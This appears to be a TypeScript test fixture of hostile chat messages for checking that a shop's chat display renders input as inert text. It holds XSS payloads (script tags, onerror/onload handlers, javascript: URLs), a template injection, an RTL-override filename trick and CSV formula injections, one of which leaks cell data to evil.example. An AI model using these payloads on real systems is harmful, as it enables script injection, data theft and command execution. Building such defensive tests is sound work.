// Hostile chat: what shoppers may type to run script, inject markup or break the layout of
// the pages that show chat. Every line must come out as the same text, inert. Payloads that
// would run set window.__pwned or open a dialog, so a test can tell.

/** "he comes" with 12 stacked combining marks on each letter (deterministic zalgo). */
function zalgo(text: string): string {
  let mark = 0;
  return [...text]
    .map((char) => {
      let out = char;
      for (let i = 0; i < 12; i++) out += String.fromCodePoint(0x300 + ((mark++ * 7) % 0x70));
      return out;
    })
    .join('');
}

/** Exactly 2,000 characters with no space to break at. */
const LONG_LINE = 'silkvelvetcashmere'.repeat(112).slice(0, 2000);

export const HOSTILE_CHAT: ReadonlyArray<{ kind: string; text: string }> = [
  { kind: 'script tag', text: '<script>window.__pwned=1;alert("script")</script>' },
  { kind: 'event handler', text: '<img src=x onerror="window.__pwned=2;alert(\'img\')">' },
  { kind: 'svg handler', text: '"><svg onload=window.__pwned=3><details open ontoggle=alert(3)>' },
  { kind: 'iframe', text: '\'><iframe srcdoc="<script>parent.__pwned=4</script>"></iframe>' },
  { kind: 'javascript: URL', text: 'javascript:window.__pwned=5;alert(document.domain)' },
  {
    kind: 'javascript: link',
    text: '<a href="javascript:alert(6)">claim your prize</a> [prize](javascript:alert(6))',
  },
  { kind: 'template', text: "{{constructor.constructor('window.__pwned=7')()}} ${alert(7)}" },
  { kind: 'RTL override', text: 'nice bag \u202Egnp.exe \u202Dthe end' },
  { kind: 'zalgo', text: zalgo('he comes') },
  { kind: '2,000 characters', text: LONG_LINE },
  { kind: 'formula', text: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")' },
  { kind: 'formula', text: "+cmd|' /C calc'!A0" },
  { kind: 'formula', text: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { kind: 'entities', text: '&lt;b&gt;bold&lt;/b&gt; &#x3C;script&#x3E; **bold**' },
];

/** A display name that turns everything after it around unless it is isolated. */
export const RTL_NAME = '\u202Eyllom';

/** Elements and attributes that would exist only if chat text had been parsed as HTML. */
export const INJECTED =
  'img[src="x"], iframe, details[ontoggle], svg[onload], a[href^="javascript:"], [onerror], [onload], [ontoggle]';
